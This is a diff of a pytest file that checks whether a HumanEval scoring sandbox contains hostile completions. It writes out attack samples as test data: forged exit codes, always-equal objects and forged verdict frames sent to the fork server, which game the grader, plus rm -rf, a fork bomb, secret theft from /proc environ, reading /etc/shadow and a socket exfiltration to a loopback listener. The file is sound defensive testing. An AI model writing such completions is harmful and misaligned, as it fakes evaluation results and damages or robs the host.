@@ -1,13 +1,17 @@
-"""Hostile completions fail cleanly and leave the host untouched, under every isolation level here.
+"""Hostile completions fail and leave the host untouched, in both isolation modes: bubblewrap and the
+opt-in unisolated fallback.
 
-Each case is a HumanEval completion (the body of truncate_number) that attacks the host when the
-tests call it and then returns a wrong value; all of them run in one scoring run, next to a
-correct completion, so the run must also survive them.
+Each case is a HumanEval completion of truncate_number (HumanEval/2) that gives a wrong answer and
+tries to make it pass anyway (forged exit codes, exit hooks, objects equal to anything, rewriting
+the tests' names, reaching the fork server) or attacks the host (files, network, secrets, processes,
+limits). All of them run in one scoring run, next to wrong answers that come after them on the same
+worker and a correct completion, so the run must also survive them and stay honest afterwards.
 """
 
 from __future__ import annotations
 
 import os
+import shutil
 import socket
 import tempfile
 import threading
@@ -17,17 +21,45 @@ from pathlib import Path
 import pytest
 
 from evalsuite.data.humaneval import load_problems
-from evalsuite.sandbox import isolation_description, isolation_level, reset_isolation
+from evalsuite.errors import BadInputError
+from evalsuite.sandbox import allow_unisolated, current_isolation, reset_isolation
+from evalsuite.sandbox.isolation import UID_BASE
 from evalsuite.scoring.humaneval import score_completions
 
 FIXTURE_DATA = Path(__file__).parent / "fixtures" / "data"
 TIMEOUT_S = 3.0
 SECRET = "sk-evalsuite-test-secret-0123456789"
+WRONG = "    return 0.5\n"  # right for 3.5 only: the first assert passes, the second fails
 
 
-def _body(code: str) -> str:
+def _body(code: str, result: str = "0.5") -> str:
     lines = code.strip("\n").splitlines()
-    return "".join(f"    {line}\n" for line in lines) + "    return -1.0\n"
+    return "".join(f"    {line}\n" for line in lines) + f"    return {result}\n"
+
+
+@pytest.fixture(params=["bwrap", "unisolated"])
+def mode(request, monkeypatch):
+    """Each test runs under bubblewrap and under the opt-in fallback without OS-level isolation."""
+    if request.param == "bwrap":
+        monkeypatch.setenv("EVALSUITE_SANDBOX", "bwrap")
+        if shutil.which("bwrap") is None:
+            pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")
+    else:
+        if os.geteuid() != 0:
+            pytest.skip("the fallback without namespaces shares the user's uid: only run it as root")
+        monkeypatch.setenv("EVALSUITE_SANDBOX", "subprocess")
+        allow_unisolated(True)
+    reset_isolation()
+    try:
+        try:
+            current_isolation()
+        except BadInputError as err:
+            pytest.skip(str(err))
+        yield request.param
+    finally:
+        allow_unisolated(False)
+        monkeypatch.delenv("EVALSUITE_SANDBOX")
+        reset_isolation()
 
 
 @pytest.fixture
@@ -55,130 +87,206 @@ def host(monkeypatch, tmp_path):
     thread = threading.Thread(target=accept, daemon=True)
     thread.start()
     monkeypatch.setenv("EVALSUITE_TEST_API_KEY", SECRET)
+    marker = f"{os.getpid() % 9000 + 1000}.{int(time.time()) % 9000 + 1000}"
     escape = Path(tempfile.gettempdir()) / f"evalsuite-escape-{os.getpid()}"
     yield {"outside": outside, "tmp_canary": tmp_canary, "port": listener.getsockname()[1],
-           "connections": connections, "escape": escape}
+           "connections": connections, "escape": escape, "marker": marker}
     stop.set()
     thread.join()
     listener.close()
-    for path in (outside / "canary.txt", outside / "written.txt"):
-        path.unlink(missing_ok=True)
-    outside.rmdir()
+    shutil.rmtree(outside, ignore_errors=True)
     escape.unlink(missing_ok=True)
 
 
-def adversarial_completions(host: dict) -> dict[str, str]:
-    outside, tmp_canary = host["outside"], host["tmp_canary"]
+def forging_completions() -> dict[str, str]:
+    """Wrong answers that try to be scored as passed without escaping anything."""
     return {
+        "SystemExit(77) at module level": WRONG + "raise SystemExit(77)\n",
+        "sys.exit(0) at module level": WRONG + "import sys\nsys.exit(0)\n",
+        "os._exit(77) in the function": _body("import os\nos._exit(77)"),
+        "os._exit(0) in the function": _body("import os\nos._exit(0)"),
+        "stdout flush hook exits 77": _body(
+            "import os, sys\n"
+            "class Hook:\n"
+            "    def write(self, text):\n"
+            "        return len(text)\n"
+            "    def flush(self):\n"
+            "        os._exit(77)\n"
+            "sys.stdout = sys.stderr = Hook()"),
+        "atexit and excepthook exit 77": _body(
+            "import atexit, os, sys\n"
+            "atexit.register(lambda: os._exit(77))\n"
+            "sys.excepthook = lambda *a: os._exit(77)"),
+        "object equal to anything": _body(
+            "class Any(float):\n"
+            "    def __eq__(self, other):\n"
+            "        return True\n"
+            "    __ne__ = lambda self, other: False\n"
+            "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
+            "    def __sub__(self, other):\n"
+            "        return Any(0.0)\n"
+            "    def __abs__(self):\n"
+            "        return 0.0", "Any(0.0)"),
+        "plain object equal to anything": _body(
+            "class Any:\n"
+            "    __eq__ = lambda self, other: True\n"
+            "    __sub__ = lambda self, other: self\n"
+            "    __abs__ = lambda self: 0.0\n"
+            "    __lt__ = lambda self, other: True", "Any()"),
+        "rewrites abs and builtins": WRONG + "import builtins\nabs = lambda x: 0\nbuiltins.abs = lambda x: 0\n"
+                                     "builtins.AssertionError = type('Never', (Exception,), {})\n",
+        "signal 40 (real-time)": _body("import signal\nsignal.raise_signal(40)"),
+        "SIGKILL itself": _body("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
+    }
+
+
+def server_attack() -> str:
+    """Reach the fork server (and any other process) by pidfd_getfd or ptrace, write forged frames."""
+    return _body(
+        "import ctypes, json, os, struct\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "reached = []\n"
+        "reply = {'nonce': '0' * 64, 'status': 0, 'timed_out': False, 'stderr': '', 'duration': 0.0,\n"
+        "         'verdict': {'passed': True, 'reason': '', 'tag': '0' * 64}}\n"
+        "frame = json.dumps(reply).encode()\n"
+        "frame = struct.pack('>I', len(frame)) + frame\n"
+        "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
+        "    if pid in (0, os.getpid()):\n"
+        "        continue\n"
+        "    try:\n"
+        "        pidfd = os.pidfd_open(pid)\n"
+        "    except OSError:\n"
+        "        continue\n"
+        "    for target in range(8):\n"
+        "        fd = libc.syscall(438, pidfd, target, 0)\n"
+        "        if fd >= 0:\n"
+        "            reached.append(f'getfd {pid}:{target}')\n"
+        "            try:\n"
+        "                os.write(fd, frame * 3)\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "    if libc.ptrace(16, pid, 0, 0) == 0:\n"
+        "        reached.append(f'ptrace {pid}')\n"
+        "if reached:\n"
+        "    raise RuntimeError('REACHED ' + ' '.join(reached))")
+
+
+def host_attacks(host: dict) -> dict[str, str]:
+    outside, tmp_canary, escape, marker = host["outside"], host["tmp_canary"], host["escape"], host["marker"]
+    script = (f"echo pwned > {escape}; cat /etc/shadow >> {escape}; echo pwned > {outside}/written.txt; "
+              f"rm -rf {outside}; (sleep {marker} &) ; sleep {marker} &")
+    return {
+        "pidfd_getfd / ptrace on the server": server_attack(),
         "rm -rf outside scratch": _body(
             "import shutil, subprocess\n"
             f"subprocess.run(['rm', '-rf', {str(outside)!r}, {str(tmp_canary.parent)!r}])\n"
-            f"shutil.rmtree({str(outside)!r})"
-        ),
+            f"shutil.rmtree({str(outside)!r})"),
         "fork bomb": _body("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
         "memory bomb": _body("hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))"),
         "infinite loop": _body("while True:\n    pass"),
         "socket to a host listener": _body(
-            f"import socket\nsocket.create_connection(('127.0.0.1', {host['port']}), timeout=1).sendall(b'stolen')"
-        ),
+            f"import socket\nsocket.create_connection(('127.0.0.1', {host['port']}), timeout=1).sendall(b'stolen')"),
         "API key from the environment": _body(
             "import os\n"
             f"leak = os.environ.get('EVALSUITE_TEST_API_KEY') or open('/proc/{os.getpid()}/environ').read()\n"
-            "raise RuntimeError('leaked: ' + repr(leak))"
-        ),
+            "raise RuntimeError('leaked: ' + repr(leak))"),
         "write outside scratch": _body(
             f"open({str(outside / 'written.txt')!r}, 'w').write('pwned')\n"
-            f"open({str(host['escape'])!r}, 'w').write('pwned')"
-        ),
+            f"open({str(escape)!r}, 'w').write('pwned')"),
+        "dir_fd write and environ read": _body(
+            "import os\n"
+            "found = []\n"
+            f"for folder, name in (({str(outside)!r}, 'canary.txt'), ({str(escape.parent)!r}, {escape.name!r})):\n"
+            "    try:\n"
+            "        fd = os.open(folder, os.O_RDONLY)\n"
+            "        out = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666, dir_fd=fd)\n"
+            "        os.write(out, b'pwned')\n"
+            "        found.append('wrote ' + name)\n"
+            "    except OSError:\n"
+            "        pass\n"
+            "try:\n"
+            "    proc = os.open('/proc', os.O_RDONLY)\n"
+            f"    found.append(os.read(os.open('{os.getpid()}/environ', os.O_RDONLY, dir_fd=proc), 1 << 20).decode())\n"
+            "except OSError:\n"
+            "    pass\n"
+            "raise RuntimeError('leaked: ' + repr(found))"),
+        "fork_exec shell, shadow and a daemon": _body(
+            "import _posixsubprocess, os\n"
+            "r, w = os.pipe()\n"
+            f"_posixsubprocess.fork_exec([b'/bin/sh', b'-c', {script.encode()!r}], [b'/bin/sh'], True, (), None, None,\n"
+            "    -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)\n"
+            "import time\n"
+            "time.sleep(0.5)"),
+        "300 threads": _body(
+            "import _thread, time\n"
+            "for _ in range(300):\n"
+            "    _thread.start_new_thread(time.sleep, (30,))"),
+        "5 x 60 MB files": _body(
+            "import os\n"
+            "chunk = b'x' * (1 << 20)\n"
+            "for n in range(5):\n"
+            "    with open(f'big{n}.bin', 'wb') as handle:\n"
+            "        for _ in range(60):\n"
+            "            handle.write(chunk)\n"
+            "            handle.flush()"),
     }
 
 
-def _run_all(host: dict):
+def _sandbox_processes(marker: str) -> list[str]:
+    """Processes still running under a sandbox uid, or carrying the attack's marker."""
+    left = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            uid = os.stat(f"/proc/{pid}").st_uid
+            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if marker in cmdline or UID_BASE <= uid < UID_BASE + 100_000 * 128:
+            left.append(f"{pid} uid {uid}: {cmdline[:80]}")
+    return left
+
+
+def _run(host: dict) -> tuple[dict, object, float]:
     problems = load_problems(FIXTURE_DATA)
-    cases = adversarial_completions(host)
+    cases = {**forging_completions(), **host_attacks(host)}
     samples = [{"task_id": "HumanEval/2", "completion": c} for c in cases.values()]
+    samples += [{"task_id": "HumanEval/2", "completion": f"    return {value}\n"} for value in (0.5, 0.25, 1.5)]
     samples.append({"task_id": "HumanEval/0", "completion": problems["HumanEval/0"]["canonical_solution"]})
-    peak = _watch_task_count()
     started = time.monotonic()
     report = score_completions(samples, problems, workers=2, timeout_s=TIMEOUT_S)
-    elapsed = time.monotonic() - started
-    return cases, report, elapsed, peak()
+    return cases, report, time.monotonic() - started
 
 
-def _watch_task_count():
-    """Sample the host's number of tasks while the run goes on; returns a function giving the peak rise."""
-    def count() -> int:
-        return sum(len(os.listdir(f"/proc/{p}/task")) for p in os.listdir("/proc") if p.isdigit() and _exists(p))
-
-    baseline = count()
-    peak = [baseline]
-    stop = threading.Event()
-
-    def watch() -> None:
-        while not stop.is_set():
-            peak[0] = max(peak[0], count())
-            time.sleep(0.05)
-
-    thread = threading.Thread(target=watch, daemon=True)
-    thread.start()
-
-    def finish() -> int:
-        stop.set()
-        thread.join()
-        return peak[0] - baseline
-
-    return finish
-
-
-def _exists(pid: str) -> bool:
-    try:
-        os.listdir(f"/proc/{pid}/task")
-        return True
-    except OSError:
-        return False
-
-
-def _assert_contained(host: dict, cases: dict, report, elapsed: float, task_rise: int) -> None:
-    results = report.results
-    outcomes = {name: r for name, r in zip(cases, results)}
+def test_wrong_answers_never_pass_and_the_host_is_untouched(mode, host):
+    cases, report, elapsed = _run(host)
+    outcomes = dict(zip(cases, report.results))
     for name, result in outcomes.items():
-        assert not result.passed, f"{name}: {result.outcome_line()}"
-        assert result.outcome in ("failed", "timeout"), f"{name}: {result.outcome_line()}"
-    assert results[-1].passed, results[-1].outcome_line()  # the run went on: the honest sample passed
-    assert report.per_task["HumanEval/2"] == 0.0
+        assert not result.passed, f"{mode}: {name}: {result.outcome_line()}"
+        assert result.outcome in ("failed", "timeout"), f"{mode}: {name}: {result.outcome_line()}"
+    for result in report.results[len(cases):-1]:  # plain wrong answers after the attacks, same workers
+        assert not result.passed, result.outcome_line()
+    assert report.results[-1].passed, report.results[-1].outcome_line()  # the run went on, honestly
+    assert report.per_task == {"HumanEval/2": 0.0, "HumanEval/0": 1.0}
+    assert report.isolation == ("bwrap" if mode == "bwrap" else "subprocess")
+    assert report.unisolated_opt_in is (mode == "unisolated")
     # host untouched
     assert (host["outside"] / "canary.txt").read_text() == "alive"
     assert host["tmp_canary"].read_text() == "alive"
     assert not (host["outside"] / "written.txt").exists()
     assert not host["escape"].exists()
     assert host["connections"] == [], "a sandboxed program reached the host's loopback listener"
-    leak = outcomes["API key from the environment"]
-    assert SECRET not in leak.reason and SECRET not in leak.extracted_code
-    assert "RuntimeError: leaked" not in leak.reason, leak.reason  # neither its env nor the harness's
+    assert _sandbox_processes(host["marker"]) == []
+    reasons = " | ".join(r.reason for r in report.results)
+    assert SECRET not in reasons and "root:" not in reasons and "REACHED" not in reasons, reasons
+    assert "wrote canary.txt" not in outcomes["dir_fd write and environ read"].reason  # /tmp may be private
+    assert "killed by signal 40" in outcomes["signal 40 (real-time)"].reason
+    print(f"\n[{mode}] " + "; ".join(f"{n}: {r.outcome_line()}" for n, r in outcomes.items()))
     assert outcomes["infinite loop"].outcome == "timeout"
-    assert outcomes["memory bomb"].outcome == "failed" and "MemoryError" in outcomes["memory bomb"].reason
-    # the fork bomb was held by the process limit (a free one reaches thousands of tasks in a second)
-    assert task_rise < 200, f"host task count rose by {task_rise}"
-    assert elapsed < 60
-    print(f"\n[{isolation_level()}] peak rise of host tasks {task_rise}, {elapsed:.1f}s: "
-          + "; ".join(f"{n}: {r.outcome_line()}" for n, r in outcomes.items()))
-
-
-def test_adversarial_completions_are_contained(host):
-    cases, report, elapsed, rise = _run_all(host)
-    assert report.isolation == isolation_level()
-    _assert_contained(host, cases, report, elapsed, rise)
-
-
-def test_adversarial_completions_are_contained_by_the_fallback(host, monkeypatch):
-    monkeypatch.setenv("EVALSUITE_SANDBOX", "subprocess")
-    reset_isolation()
-    try:
-        if os.geteuid() != 0:
-            pytest.skip("the fallback without namespaces shares the user's uid: only run it as root")
-        cases, report, elapsed, rise = _run_all(host)
-        assert report.isolation == "subprocess" and "subprocess" in isolation_description()
-        _assert_contained(host, cases, report, elapsed, rise)
-    finally:
-        monkeypatch.delenv("EVALSUITE_SANDBOX")
-        reset_isolation()
+    memory = outcomes["memory bomb"]
+    assert "MemoryError" in memory.reason or memory.outcome == "timeout"  # 2 GiB zeroed: slow under load
+    assert any(s in outcomes["5 x 60 MB files"].reason for s in ("wrote more than", "No space left", "too large"))
+    assert "can't start new thread" in outcomes["300 threads"].reason
+    assert "exited before the tests ran" in outcomes["sys.exit(0) at module level"].reason
+    assert outcomes["rewrites abs and builtins"].reason == "AssertionError"  # it ran; the tests' abs did not change
+    assert elapsed < 90
+    print(f"\n[{mode}] {elapsed:.1f}s: " + "; ".join(f"{n}: {r.outcome_line()}" for n, r in outcomes.items()))
